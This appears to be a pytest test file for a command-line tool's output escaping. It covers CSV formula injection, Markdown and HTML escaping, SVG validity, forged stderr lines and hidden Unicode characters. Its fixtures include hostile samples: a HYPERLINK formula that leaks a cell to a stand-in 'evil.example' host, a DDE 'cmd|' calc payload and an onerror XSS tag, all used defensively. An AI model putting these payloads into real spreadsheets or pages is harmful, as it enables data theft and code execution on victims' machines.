"""Output that can't be turned against its reader: CSV that no spreadsheet runs, Markdown that
renders as plain text, SVG that is well-formed XML, stderr lines that a fact file cannot forge,
and invisible characters made visible without breaking joined scripts and emoji.

Every case runs on a small fact file written in the test, never on the bundled data.
"""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from tradecli.cli import app
from tradecli.render.markdown import escape as markdown_escape
from tradecli.textsafe import json_safe, spreadsheet_safe, visible

SOURCE = {"id": "src", "title": "A source", "publisher": "news", "kind": "news_report"}


def evidence() -> list[dict[str, str]]:
    """The one piece of evidence every fact of these small files has."""
    return [{"source": "src", "paraphrase": "As the source says."}]


def person(fact_id: str, name: str, **more: Any) -> dict[str, Any]:
    """A person with evidence."""
    return {"id": fact_id, "name": name, "evidence": evidence(), **more}


def write_facts(path: Path, **collections: Any) -> Path:
    """A fact file with one source and the given collections."""
    data = {"format_version": 1, "sources": [SOURCE], **collections}
    path.write_text(json.dumps(data, indent=2, ensure_ascii=False), encoding="utf-8")
    return path


def run(runner: CliRunner, *args: str, env: dict[str, str] | None = None) -> Any:
    """Run tradecli in-process; nothing but a clean exit may end it."""
    result = runner.invoke(app, list(args), env=env)
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(
        result.exception
    )
    assert "Traceback" not in result.stdout + result.stderr
    return result


# --- CSV: formula injection -------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "=1+1",
]


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-", "'-"),
        ("-5.9", "-5.9"),
        ("-12", "-12"),
        ("-5.9e3", "'-5.9e3"),
        ("-\u0665", "'-\u0665"),  # a minus and an Arabic-Indic digit is no plain number
        ("5.9", "5.9"),
        ("a=b", "a=b"),
        (" =1", " =1"),
        ("", ""),
        ("'tis", "''tis"),
        ("'=1", "''=1"),
    ],
)
def test_spreadsheet_safe_quotes_what_a_spreadsheet_would_run(text: str, cell: str) -> None:
    """OWASP's six starting characters get a leading quote, and so does a quote itself; a plain
    negative number does not."""
    assert spreadsheet_safe(text) == cell


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r0123456789.ab "), max_size=6))
def test_the_guard_is_told_from_a_real_apostrophe(text: str) -> None:
    """A guarded cell starts with one quote more than its text: dropping one leading quote from
    a cell that has one gives the text back, and a cell without one is the text itself."""
    cell = spreadsheet_safe(text)
    assert (cell[1:] if cell.startswith("'") else cell) == text


def test_csv_output_guards_every_formula(runner: CliRunner, tmp_path: Path) -> None:
    """`-f csv`: a name or alias that starts a formula is quoted; other cells are unchanged."""
    people = [person(f"p{i}", text, aliases=[f"-5.{i}"]) for i, text in enumerate(FORMULAS)]
    path = write_facts(tmp_path / "facts.json", people=people)
    result = run(runner, "--data", str(path), "people", "-f", "csv")
    assert result.exit_code == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [row["name"] for row in rows] == ["'" + text for text in FORMULAS]
    assert [row["aliases"] for row in rows] == [f"-5.{i}" for i in range(len(FORMULAS))]
    assert [row["id"] for row in rows] == [f"p{i}" for i in range(len(FORMULAS))]


def test_csv_export_for_a_spreadsheet_guards_text_and_keeps_numbers(
    runner: CliRunner, tmp_path: Path
) -> None:
    """`export csv --for spreadsheet`: a byte order mark starts each file; text cells are guarded
    (tab, CR and a leading quote too); a float -5.9 and text "-5.9" are written as they are; a
    carriage return inside a text cannot start a row of its own (with a formula in it); SQLite
    keeps every text exactly as written."""
    statements = [
        {
            "id": "s1",
            "kind": "figure",
            "text": "=cmd|' /C calc'!A0",
            "value": -5.9,
            "unit": "-5.9",
            "evidence": evidence(),
        },
        {
            "id": "s2",
            "kind": "figure",
            "text": "\tpadded",
            "unit": "\rreturn",
            "notes": "'tis so",
            "evidence": evidence(),
        },
        {
            "id": "s3",
            "kind": "figure",
            "text": 'x\r=HYPERLINK("http://evil.example")',
            "evidence": evidence(),
        },
    ]
    path = write_facts(
        tmp_path / "facts.json", people=[person("p1", "@SUM(1)")], statements=statements
    )
    out = tmp_path / "out"
    result = run(runner, "--data", str(path), "export", "csv", str(out), "--for", "spreadsheet")
    assert result.exit_code == 0, result.stderr
    assert all(file.read_bytes().startswith(b"\xef\xbb\xbfid,") for file in out.glob("[ps]*.csv"))
    with (out / "statements.csv").open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert [row["id"] for row in rows] == ["s1", "s2", "s3"]
    assert [row["text"] for row in rows] == [
        "'=cmd|' /C calc'!A0",
        "'\tpadded",
        'x\r=HYPERLINK("http://evil.example")',
    ]
    assert [row["value"] for row in rows] == ["-5.9", "", ""]
    assert [row["unit"] for row in rows] == ["-5.9", "'\rreturn", ""]
    assert [row["notes"] for row in rows] == ["", "''tis so", ""]
    with (out / "people.csv").open(encoding="utf-8-sig", newline="") as stream:
        assert [row["name"] for row in csv.DictReader(stream)] == ["'@SUM(1)"]
    database = tmp_path / "facts.db"
    assert run(runner, "--data", str(path), "export", "sqlite", str(database)).exit_code == 0
    connection = sqlite3.connect(database)
    try:
        stored = connection.execute("SELECT text, value FROM statements ORDER BY id").fetchall()
    finally:
        connection.close()
    assert stored[:2] == [("=cmd|' /C calc'!A0", -5.9), ("\tpadded", None)]


def test_csv_export_for_data_tools_keeps_every_text(runner: CliRunner, tmp_path: Path) -> None:
    """`export csv` (--for data, the default): no byte order mark, and a text that starts a
    formula or a quote is written exactly, as the SQLite export holds it."""
    texts = ["=1+1", "'tis", "@SUM(1)", "-2+3"]
    people = [person(f"p{i}", text) for i, text in enumerate(texts)]
    path = write_facts(tmp_path / "facts.json", people=people)
    for extra in ([], ["--for", "data"]):
        out = tmp_path / f"out{len(extra)}"
        result = run(runner, "--data", str(path), "export", "csv", str(out), *extra)
        assert result.exit_code == 0, result.stderr
        raw = (out / "people.csv").read_bytes()
        assert raw.startswith(b"id,name,")
        rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8"), newline="")))
        assert [row["name"] for row in rows] == texts


# --- Markdown: no live links, images, HTML or formatting --------------------------------------

MARKDOWN_HOSTILE = [
    "[click](https://evil.example/)",
    "![pixel](https://tracker.example/p.png)",
    "<img src=x onerror=alert(1)>",
    "<https://evil.example/>",
    "see https://evil.example/x now",
    "www.evil.example",
    "`code` *em* _em_ **bold** ~~gone~~",
    "# not a heading",
    "&#x202e;entity &amp; &lt;b&gt;",
    "costs $5 to $7 in math",
    "pipe | and back\\slash \\| both",
    "[ref]: https://evil.example/",
    "<!-- comment -->",
    "first line\nsecond | line",
]


def _rendered_cells(markdown: str) -> tuple[str, list[str]]:
    """The HTML a CommonMark renderer with GFM tables makes, and the text of each body cell."""
    markdown_it = pytest.importorskip("markdown_it")
    html = markdown_it.MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(markdown)
    body = html.split("<tbody>", 1)[1]
    cells = re.findall(r"<td>(.*?)</td>", body, flags=re.DOTALL)
    return body, cells


def test_markdown_cells_render_as_the_plain_text(runner: CliRunner, tmp_path: Path) -> None:
    """Rendered, each name is exactly its text (newline shown as \\x0a): no link, image, tag."""
    import html

    people = [person(f"p{i}", text) for i, text in enumerate(MARKDOWN_HOSTILE)]
    path = write_facts(tmp_path / "facts.json", people=people)
    result = run(runner, "--data", str(path), "people", "-f", "markdown")
    assert result.exit_code == 0, result.stderr
    lines = result.stdout.splitlines()
    assert len(lines) == 2 + len(MARKDOWN_HOSTILE), "a cell broke its table row"
    body, cells = _rendered_cells(result.stdout)
    names = cells[1 :: len(cells) // len(MARKDOWN_HOSTILE)]
    assert [html.unescape(name) for name in names] == [visible(t) for t in MARKDOWN_HOSTILE]
    for tag in ("<a ", "<img", "<code", "<em", "<strong", "<s>", "<h1", "<!--", "<b>"):
        assert tag not in body, tag


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("https://x.example", "https\\://x.example"),
        ("WWW.x.example", "WWW\\.x.example"),
        ("a www b", "a www b"),
        ("ratio 2:1", "ratio 2:1"),
        ("[a](b)", "\\[a\\]\\(b\\)"),
        ("!", "\\!"),
        ("<b>&", "&lt;b&gt;&amp;"),
        ("#1 and `x`", "\\#1 and \\`x\\`"),
        ("a*b_c~d", "a\\*b\\_c\\~d"),
        ("mail a@b.example", "mail a\\@b.example"),
        ("a\\b|c", "a\\\\b\\|c"),
        ("line\nnext", "line\\\\x0anext"),
        ("50% of C$7.5bn - 3.", "50% of C\\$7.5bn - 3."),
    ],
)
def test_markdown_escape_rule(text: str, written: str) -> None:
    """Punctuation Markdown reads gets a backslash, <>& become entities, autolinks are broken."""
    assert markdown_escape(text) == written


# --- SVG: well-formed XML whatever the data holds ---------------------------------------------

NOT_XML = "\x01\x0b\x0c\x1f\ufffe\uffff"


def test_svg_is_well_formed_xml_with_hostile_text(runner: CliRunner, tmp_path: Path) -> None:
    """Characters XML may not hold never reach the SVG raw; ElementTree parses it; HTML is UTF-8."""
    name = "zq " + " ".join(NOT_XML) + " \U000e0041\u180e<&> end"
    path = write_facts(tmp_path / "facts.json", people=[person("p1", name)])
    svg, page = tmp_path / "out.svg", tmp_path / "out.html"
    args = ["--data", str(path), "people", "--export-svg", str(svg), "--export-html", str(page)]
    result = run(runner, *args, env={"COLUMNS": "1000"})
    assert result.exit_code == 0, result.stderr
    document = svg.read_text(encoding="utf-8")
    root = ET.fromstring(document)  # raises on ill-formed XML
    assert root.tag.endswith("svg")
    text = "".join(root.itertext()).replace("\xa0", " ")
    assert visible(name) in text
    for char in NOT_XML:
        assert char not in document
    assert "\ufffe" not in page.read_text(encoding="utf-8")


# --- stderr: no line planted by a path or the data --------------------------------------------

FAKE = "facts.json: valid: 9 sources"


def test_a_file_name_with_a_newline_stays_on_its_line(runner: CliRunner, tmp_path: Path) -> None:
    """A broken file whose name holds a newline: each problem is one line, the name escaped."""
    path = tmp_path / f"x\n{FAKE}\n.json"
    path.write_text('{"format_version": 1, "sources": [{"id": "Bad Id"}]}', encoding="utf-8")
    result = run(runner, "--data", str(path), "validate")
    assert result.exit_code == 3
    lines = result.stderr.splitlines()
    assert lines, "no message at all"
    assert not any(line.startswith(FAKE) for line in lines), result.stderr
    assert all(line.startswith(visible(str(path))) for line in lines if not line.startswith("hint"))
    missing = run(runner, "--data", str(tmp_path / f"gone\n{FAKE}"), "tariffs")
    assert missing.exit_code == 3
    assert not any(line.startswith(FAKE) for line in missing.stderr.splitlines())
    assert "\\x0a" in missing.stderr


def test_a_fact_field_cannot_plant_a_line(runner: CliRunner, tmp_path: Path) -> None:
    """A conflict topic (validate reports it) or a bad value holding "\\n...: valid" stays in
    its own line."""
    topic = f"who said it\n{FAKE}"
    conflicts = [{"id": "c1", "topic": topic, "claims": ["p1", "p2"]}]
    people = [person("p1", "One"), person("p2", "Two")]
    path = write_facts(tmp_path / "facts.json", people=people, conflicts=conflicts)
    valid = run(runner, "validate", str(path))
    assert valid.exit_code == 0, valid.stderr
    assert valid.stdout.count("\n") == 1
    assert [line for line in valid.stderr.splitlines() if FAKE in line] == [
        f"known conflict c1: {visible(topic)} (p1, p2)"
    ]
    broken = write_facts(
        tmp_path / "broken.json",
        people=[person("p1", "One", kind=f"x\n{FAKE}")],
    )
    invalid = run(runner, "validate", str(broken))
    assert invalid.exit_code == 3
    assert not any(line.startswith(FAKE) for line in invalid.stderr.splitlines()), invalid.stderr


# --- Invisible characters ----------------------------------------------------------------------

HIDDEN = {
    "\U000e0041": "\\U000e0041",  # tag LATIN CAPITAL A
    "\U000e0001": "\\U000e0001",  # language tag
    "\U000e007f": "\\U000e007f",  # cancel tag
    "\u180e": "\\u180e",
    "\xad": "\\xad",
    "\u115f": "\\u115f",
    "\u1160": "\\u1160",
    "\u3164": "\\u3164",
    "\uffa0": "\\uffa0",
    "\ufffe": "\\ufffe",
    "\ud800": "\\ud800",
}


@pytest.mark.parametrize("char", list(HIDDEN), ids=[f"U+{ord(c):04X}" for c in HIDDEN])
def test_invisible_characters_are_made_visible(char: str) -> None:
    """Tag characters, U+180E, soft hyphens and Hangul fillers become escapes, alone or in text."""
    for text in (char, f"a{char}b", f"中{char}文"):
        assert char not in visible(text)
        assert HIDDEN[char] in visible(text)
    document = json_safe(json.dumps({"t": f"中{char}文"}, ensure_ascii=False))
    assert char not in document
    if char != "\ud800":
        assert json.loads(document) == {"t": f"中{char}文"}


JOINED = [
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",  # family: man, woman, girl
    "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",  # Persian "I want", with a ZWNJ
    "\u0915\u094d\u200d\u0937",  # Devanagari half form with a ZWJ
    "\u2764\ufe0f\u200d\U0001f525",  # heart on fire: a variation selector before the ZWJ
    "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",  # Scotland's flag
]


@pytest.mark.parametrize("text", JOINED)
def test_joiners_inside_words_and_emoji_are_kept(text: str) -> None:
    """ZWJ and ZWNJ between two letters or emoji, and a flag's tags, are left as they are."""
    assert visible(text) == text
    assert visible(f"Carney {text} Beijing") == f"Carney {text} Beijing"
    assert json_safe(json.dumps(text, ensure_ascii=False)) == json.dumps(text, ensure_ascii=False)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\u200dstart", "\\u200dstart"),
        ("end\u200c", "end\\u200c"),
        ("\u200d", "\\u200d"),
        ("a\u200db", "a\\u200db"),
        ("中\u200d ", "中\\u200d "),
        ("中 \u200c文", "中 \\u200c文"),
        ("中\u200dx", "中\\u200dx"),
        ("中\u200d\u200d文", "中\\u200d\\u200d文"),
        ("中\u200d\u200b文", "中\\u200d\\u200b文"),
        ("x\U000e0067\U000e0062", "x\\U000e0067\\U000e0062"),
        ("\U0001f3f4\U000e0061\U000e0062\U000e007f", "\U0001f3f4\\U000e0061\\U000e0062\\U000e007f"),
    ],
)
def test_joiners_and_tags_elsewhere_are_shown(text: str, shown: str) -> None:
    """A joiner at an edge, beside a space, ASCII or another hidden character is shown; so are
    tags outside the three subdivision flags; JSON escapes the same characters."""
    assert visible(text) == shown
    document = json_safe(json.dumps(text, ensure_ascii=False))
    assert json.loads(document) == text
    for char in ("\u200c", "\u200d", "\U000e0061", "\U000e0067"):
        assert (char in document) == (char in shown), char
